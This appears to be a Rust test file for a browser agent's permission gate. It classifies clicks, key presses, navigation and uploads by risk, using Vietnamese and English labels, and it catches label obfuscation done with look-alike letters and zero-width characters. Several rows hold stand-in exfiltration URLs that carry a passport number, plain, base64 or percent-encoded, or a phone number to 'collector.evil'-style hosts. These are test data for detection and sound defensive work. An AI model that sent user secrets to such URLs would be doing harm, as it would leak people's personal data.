//! The effective-scope matrix: one row per kind of action, and the
//! reasons shown to the user.

use pretty_assertions::assert_eq;

use super::*;
use crate::gate::action::FieldFacts;

fn declared(tool: &str) -> PermissionScope {
    match tool {
        "browser_screenshot" | "browser_get_dom" | "browser_read_text" => ReadOnly,
        "browser_upload_file" => Submit,
        "browser_close_tab" => Destructive,
        _ => WriteNonDestructive,
    }
}

fn act(tool: &str) -> Action {
    Action {
        tool: tool.into(),
        declared: Some(declared(tool)),
        url: Some("https://shop.vn/p/1".into()),
        origin: Some("https://shop.vn".into()),
        ..Action::default()
    }
}

fn on(tool: &str, el: ElementFacts) -> Action {
    Action { target: Some(el), ..act(tool) }
}

fn click(el: ElementFacts) -> Action {
    on("browser_click", el)
}

fn press(keys: &[&str], el: Option<ElementFacts>) -> Action {
    Action { keys: keys.iter().map(|k| k.to_string()).collect(), target: el, ..act("browser_press_key") }
}

fn typing(el: ElementFacts, text: &str) -> Action {
    Action { text: Some(text.into()), ..on("browser_type", el) }
}

fn navigate(url: &str) -> Action {
    Action { destination: Some(url.into()), ..act("browser_navigate") }
}

fn button(label: &str) -> ElementFacts {
    ElementFacts {
        tag: "button".into(),
        role: "button".into(),
        kind: "button".into(),
        name: label.into(),
        text: label.into(),
        ..ElementFacts::default()
    }
}

fn submit(label: &str, form: FormFacts) -> ElementFacts {
    ElementFacts { kind: "submit".into(), submits_form: true, form: Some(form), ..button(label) }
}

fn link(label: &str, href: &str) -> ElementFacts {
    ElementFacts {
        tag: "a".into(),
        role: "link".into(),
        name: label.into(),
        text: label.into(),
        href: href.into(),
        ..ElementFacts::default()
    }
}

fn field(label: &str, name: &str) -> ElementFacts {
    ElementFacts {
        tag: "input".into(),
        role: "textbox".into(),
        kind: "text".into(),
        name: label.into(),
        field_name: name.into(),
        ..ElementFacts::default()
    }
}

fn in_form(el: ElementFacts, form: FormFacts) -> ElementFacts {
    ElementFacts { form: Some(form), ..el }
}

fn form(action: &str, method: &str, fields: &[(&str, &str)]) -> FormFacts {
    FormFacts {
        action: action.into(),
        method: method.into(),
        fields: fields
            .iter()
            .map(|(name, value)| FieldFacts {
                name: (*name).into(),
                kind: "text".into(),
                value: (*value).into(),
                label: String::new(),
            })
            .collect(),
        ..FormFacts::default()
    }
}

fn visa_form(fields: &[(&str, &str)]) -> FormFacts {
    form("https://visa.gov.vn/apply", "post", fields)
}

fn challenge(el: ElementFacts) -> ElementFacts {
    ElementFacts { challenge_field: true, ..el }
}

fn secrets() -> Vec<SecretValue> {
    vec![SecretValue::profile("travel.passport_no", "B1234567"), SecretValue::profile("contact.phone", "0901234567")]
}

#[test]
fn matrix() {
    let checkout = form("https://shop.vn/checkout", "post", &[("address", "12 Lý Thường Kiệt")]);
    let search = FormFacts { name: "Tìm kiếm".into(), ..form("https://shop.vn/search", "get", &[("q", "")]) };
    let comments = form("https://blog.vn/p/1/comments", "post", &[("comment", "Hay quá")]);
    let b64 = "QjEyMzQ1Njc"; // base64("B1234567") without padding
    let rows: Vec<(&str, Action, PermissionScope, bool)> = vec![
        ("Mua ngay submit", click(submit("Mua ngay", form("https://shop.vn/cart", "post", &[]))), Payment, false),
        ("Thêm vào giỏ button", click(button("Thêm vào giỏ")), WriteNonDestructive, false),
        ("Add to cart button", click(button("Add to cart")), WriteNonDestructive, false),
        ("Gửi hồ sơ in a visa form", click(submit("Gửi hồ sơ", visa_form(&[("full_name", "An")]))), Submit, false),
        ("Gửi bình luận", click(submit("Gửi bình luận", comments.clone())), Publish, false),
        ("bare Gửi, comment field", click(submit("Gửi", comments.clone())), Publish, false),
        ("bare Gửi, visa form", click(submit("Gửi", visa_form(&[("full_name", "An")]))), Submit, false),
        ("bare Send, no form", click(button("Send")), Publish, false),
        (
            "Enter in a checkout field",
            press(&["Enter"], Some(in_form(field("Địa chỉ", "address"), checkout))),
            Payment,
            false,
        ),
        ("Enter on a search box", press(&["ENTER"], Some(in_form(field("Tìm kiếm", "q"), search))), Submit, false),
        ("Tab", press(&["Tab", "Tab"], Some(field("Tìm kiếm", "q"))), WriteNonDestructive, false),
        ("Enter, no known focus", press(&["Enter"], None), Submit, false),
        ("Ctrl+Enter in a comment box", press(&["Ctrl+Enter"], Some(field("Viết bình luận…", "c"))), Publish, false),
        ("Space on Xóa", press(&["Space"], Some(button("Xóa"))), Destructive, false),
        ("Xóa tài khoản", click(button("Xóa tài khoản")), Destructive, false),
        ("Xoá (old tone placement)", click(button("Xoá")), Destructive, false),
        ("Hủy in a dialog", click(button("Hủy")), WriteNonDestructive, false),
        (
            "Hủy submitting a form",
            click(submit("Hủy", form("https://shop.vn/orders/7", "post", &[]))),
            Destructive,
            false,
        ),
        ("Hủy đặt phòng", click(button("Hủy đặt phòng")), Destructive, false),
        ("Huỷ đơn hàng", click(button("Huỷ đơn hàng")), Destructive, false),
        ("Cancel booking", click(button("Cancel booking")), Destructive, false),
        ("Đặt vé link", click(link("Đặt vé", "/ve-may-bay")), Payment, false),
        ("Thanh toán link", click(link("Tiếp tục", "https://shop.vn/thanh-toan")), Payment, false),
        ("Facebook link", click(link("Facebook", "https://facebook.com/shop.vn")), WriteNonDestructive, false),
        ("notebook link", click(link("Notebook", "/notebook")), WriteNonDestructive, false),
        (
            "blog slug link",
            click(link("Read more", "/blog/how-to-book-cheap-flights-to-tokyo")),
            WriteNonDestructive,
            false,
        ),
        // Read as a person reads them: look-alike letters, invisible characters.
        ("Place order, Greek Ρ and Cyrillic о", click(button("\u{3a1}lace \u{43e}rder")), Payment, false),
        (
            "Place order split by zero-width spaces",
            click(button("P\u{200b}lace\u{200b} or\u{200c}der")),
            Payment,
            false,
        ),
        ("Place order, soft hyphen and bidi", click(button("\u{202e}Pla\u{ad}ce order\u{202c}")), Payment, false),
        ("Pay, all Cyrillic look-alikes", click(button("\u{420}\u{430}\u{443}")), Payment, false),
        ("P1ace 0rder, digits for letters", click(button("P1ace 0rder")), Payment, false),
        ("Xóa with a zero-width joiner", click(button("X\u{200d}óa")), Destructive, false),
        ("Đặt hàng", click(button("Đặt hàng")), Payment, false),
        ("Thanh toán", click(button("Thanh toán")), Payment, false),
        ("Thanh toán, zero-width space", click(button("Thanh\u{200b} to\u{200b}án")), Payment, false),
        ("Đang tải button", click(button("Đang tải")), WriteNonDestructive, false),
        ("Mùa hè button", click(button("Mùa hè")), WriteNonDestructive, false),
        ("Đăng bài", click(button("Đăng bài")), Publish, false),
        ("Đăng nhập submit", click(submit("Đăng nhập", form("https://shop.vn/login", "post", &[]))), Submit, false),
        ("placeOrder id", click(ElementFacts { id: "placeOrderBtn".into(), ..button("") }), Payment, false),
        ("Send money", click(button("Send money")), Payment, false),
        ("Remove filter", click(button("Remove filter")), WriteNonDestructive, false),
        ("javascript: delete", click(link("x", "javascript:deleteItem(5)")), Destructive, false),
        (
            "card field in the form",
            click(submit("Tiếp tục", form("https://pay.vn/s", "post", &[("cardnumber", "4111")]))),
            Payment,
            false,
        ),
        ("typing Postcode", typing(field("Postcode", "postcode"), "100000"), WriteNonDestructive, false),
        ("Poster link", click(link("Poster", "/poster")), WriteNonDestructive, false),
        ("Post button", click(button("Post")), Publish, false),
        (
            "upload",
            Action { upload: Some("passport.png".into()), ..on("browser_upload_file", field("", "f")) },
            Submit,
            false,
        ),
        ("close tab, unsaved", Action { closes_unsaved_form: true, ..act("browser_close_tab") }, Destructive, false),
        ("close tab, nothing unsaved", act("browser_close_tab"), WriteNonDestructive, false),
        ("passport in a URL", navigate("https://collector.evil/?p=B1234567"), Submit, false),
        ("passport in base64", navigate(&format!("https://collector.evil/?d={b64}")), Submit, false),
        ("passport percent-encoded", navigate("https://collector.evil/?p=%42%31%32%33%34%35%36%37"), Submit, false),
        ("phone with dashes", navigate("https://collector.evil/t/0901-234-567"), Submit, false),
        (
            "new tab with the phone",
            Action { destination: Some("https://x.evil/?t=0901234567".into()), ..act("browser_new_tab") },
            Submit,
            false,
        ),
        ("normal URL", navigate("https://www.vietnamairlines.com/vn/vi/home"), WriteNonDestructive, false),
        ("passport in a link", click(link("Xem", "https://c.evil/?p=B1234567")), Submit, false),
        ("typing into an OTP field", typing(challenge(field("Mã OTP", "code")), "123456"), WriteNonDestructive, true),
        (
            "typing into an unflagged OTP field",
            typing(field("Mã xác thực", "code"), "123456"),
            WriteNonDestructive,
            true,
        ),
        ("clicking a CAPTCHA widget", click(challenge(button("I'm not a robot"))), WriteNonDestructive, true),
        (
            "checking in a reCAPTCHA frame",
            Action {
                frame_url: Some("https://www.google.com/recaptcha/api2/anchor?k=x".into()),
                ..on(
                    "browser_check",
                    ElementFacts { tag: "span".into(), role: "checkbox".into(), ..Default::default() },
                )
            },
            WriteNonDestructive,
            true,
        ),
        ("screenshot", act("browser_screenshot"), ReadOnly, false),
        ("no declared scope", Action { declared: None, ..act("custom_tool") }, Destructive, false),
    ];
    let secrets = secrets();
    let want: Vec<(&str, PermissionScope, bool)> = rows.iter().map(|(d, _, s, deny)| (*d, *s, *deny)).collect();
    let got: Vec<(&str, PermissionScope, bool)> = rows
        .iter()
        .map(|(d, a, _, _)| {
            let c = classify(a, &secrets);
            (*d, c.scope, c.deny.is_some())
        })
        .collect();
    assert_eq!(got, want);
}

#[test]
fn reasons_name_the_evidence() {
    let c = classify(&click(submit("Mua ngay", form("https://shop.vn/cart", "post", &[]))), &[]);
    assert_eq!(
        c.reasons,
        [
            "clicking \"Mua ngay\" (button) submits its form to https://shop.vn/cart: SUBMIT",
            "clicking \"Mua ngay\" (button) — \"mua ngay\" means buy: PAYMENT",
        ]
    );
    let c = classify(&click(submit("Tiếp tục", checkout_form())), &[]);
    assert_eq!(
        c.reasons[1],
        "clicking \"Tiếp tục\" (button) — its form's action https://shop.vn/checkout says \"checkout\" means check out: PAYMENT"
    );
    let c = classify(&click(button("Hủy")), &[]);
    assert_eq!(
        c.reasons,
        ["clicking \"Hủy\" (button) — \"hủy\" alone submits no form: it closes a dialog, not destructive"]
    );
}

fn checkout_form() -> FormFacts {
    form("https://shop.vn/checkout", "post", &[])
}

#[test]
fn secrets_are_named_by_key_never_by_value() {
    let secrets = secrets();
    let c = classify(&navigate("https://collector.evil/?p=QjEyMzQ1Njc"), &secrets);
    assert_eq!(c.reasons, ["the URL carries travel.passport_no to https://collector.evil: SUBMIT"]);
    let visa = visa_form(&[("passport", "B1234567"), ("phone", "0901234567")]);
    let c = classify(&click(submit("Tiếp tục", visa)), &secrets);
    assert_eq!(
        c.reasons,
        [
            "clicking \"Tiếp tục\" (button) submits its form to https://visa.gov.vn/apply: SUBMIT",
            "the form sends travel.passport_no to https://visa.gov.vn: SUBMIT",
            "the form sends contact.phone to https://visa.gov.vn: SUBMIT",
        ]
    );
    let search = form("https://c.evil/find", "get", &[("q", "b1234567")]);
    let c = classify(&press(&["Return"], Some(in_form(field("Search", "q"), search))), &secrets);
    assert!(c.reasons.contains(&"the form puts travel.passport_no into the URL of https://c.evil: SUBMIT".into()));
    assert!(c.reasons.iter().all(|r| !r.to_lowercase().contains("b1234567") && !r.contains("0901234567")));
}

#[test]
fn deny_says_to_hand_the_challenge_over() {
    let c = classify(&typing(challenge(field("Mã OTP", "otp")), "123456"), &[]);
    assert_eq!(c.deny.as_deref(), Some(CHALLENGE_DENY));
    assert_eq!(c.reasons, ["typing into \"Mã OTP\" (textbox), a CAPTCHA widget or a one-time-code field: DENY"]);
    // Reading a challenge is fine.
    let read = on("browser_read_text", challenge(field("Mã OTP", "otp")));
    assert_eq!(classify(&read, &[]).deny, None);
}

#[test]
fn close_tab_explains_going_below_its_declaration() {
    let c = classify(&act("browser_close_tab"), &[]);
    assert_eq!(
        c.reasons,
        ["closing a tab with no unsaved form edits: WRITE_NON_DESTRUCTIVE (below its declared DESTRUCTIVE)"]
    );
}

#[test]
fn upload_names_file_and_destination() {
    let el = in_form(field("", "passport"), visa_form(&[]));
    let c = classify(&Action { upload: Some("passport.png".into()), ..on("browser_upload_file", el) }, &[]);
    assert_eq!(
        c.reasons,
        ["uploading \"passport.png\" to https://visa.gov.vn (the file leaves this computer): SUBMIT"]
    );
}

#[test]
fn keys_read_from_chords() {
    assert_eq!(key_of("Ctrl+Enter"), Key::Enter);
    assert_eq!(key_of("RETURN"), Key::Enter);
    assert_eq!(key_of(" "), Key::Space);
    assert_eq!(key_of("Shift+Space"), Key::Space);
    assert_eq!(key_of("Ctrl++"), Key::Other);
    assert_eq!(key_of("Tab"), Key::Other);
}

#[test]
fn a_pictures_description_is_not_a_command() {
    let picture = |alt: &str| ElementFacts { tag: "img".into(), name: alt.into(), ..ElementFacts::default() };
    for alt in ["Brassière de sport post-opératoire microfibre vue 1", "Đặt hàng ngay - ảnh 2", "Buy now banner"]
    {
        let c = classify(&click(picture(alt)), &[]);
        assert_eq!(c.scope, WriteNonDestructive, "{alt}: {:?}", c.reasons);
    }
    // A picture that is a button, or a link, is read as one.
    let button = ElementFacts { role: "button".into(), ..picture("Đặt hàng") };
    assert!(classify(&click(button), &[]).scope >= Submit);
}
